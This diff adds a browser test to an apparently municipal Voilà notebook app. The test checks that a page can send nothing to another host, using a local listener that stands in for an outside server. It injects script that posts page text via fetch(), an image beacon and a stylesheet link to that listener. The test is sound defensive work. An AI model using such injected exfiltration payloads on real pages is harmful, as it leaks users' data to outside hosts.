@@ -3,15 +3,17 @@
 What a role may not see is checked where it would travel: every websocket frame the browser
 receives (the widgets' state and outputs come that way, not in the page's HTML) and the page
 text, for a network's contact on their pages, also when the address asks for another network.
-A page whose session ends (here: the user disabled) says so, and nothing on a page is fetched
-from another host. A team member's saved judgement carries their name into the history; the access log has the
+A page whose session ends (here: the user disabled) says so, nothing on a page is fetched
+from another host, and a page can send nothing to one. A team member's saved judgement carries their name into the history; the access log has the
 rows the steps should write. Screenshots go to artefacts/screenshots/.
 """
 
 from __future__ import annotations
 
+import http.server
 import subprocess
 import sys
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -160,3 +162,42 @@ def test_a_disabled_user_loses_the_open_page_and_it_says_so(browser: Browser, se
         tab.close()
     ended = AccessLog(access_log_path(served.db_path)).events(username="tove", event="session_ended")
     assert ended and ended[0].detail == "deaktiveret"
+
+
+class Listener(http.server.BaseHTTPRequestHandler):
+    """Stands in for a host outside the municipality: records every request that reaches it."""
+
+    received: list[str] = []
+
+    def do_GET(self) -> None:  # noqa: N802 - http.server's name
+        Listener.received.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+
+    def log_message(self, *args: object) -> None:
+        pass
+
+
+def test_a_page_sends_nothing_to_another_host(browser: Browser, served: RunningServer) -> None:
+    outside = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Listener)
+    thread = threading.Thread(target=outside.serve_forever, daemon=True)
+    thread.start()
+    target = f"http://127.0.0.2:{outside.server_address[1]}"
+    tab = Session(browser, served)
+    try:
+        tab.login("mette", "/voila/render/udforsk.ipynb")
+        tab.page.wait_for_selector(".ssp-page .js-plotly-plot", timeout=PAGE_TIMEOUT_MS)
+        # What injected markup or script would try: a request, an image, a style sheet, a form.
+        tab.page.evaluate("""(target) => {
+            fetch(target + "/fetch?d=" + encodeURIComponent(document.body.innerText.slice(0, 40))).catch(() => 0);
+            new Image().src = target + "/img";
+            const link = document.createElement("link");
+            link.rel = "stylesheet"; link.href = target + "/css"; document.head.appendChild(link);
+        }""", target)
+        tab.page.wait_for_timeout(3000)
+        assert tab.page.locator(".ssp-page .js-plotly-plot").count() >= 1  # the page itself still works
+    finally:
+        tab.close()
+        outside.shutdown()
+    assert Listener.received == []
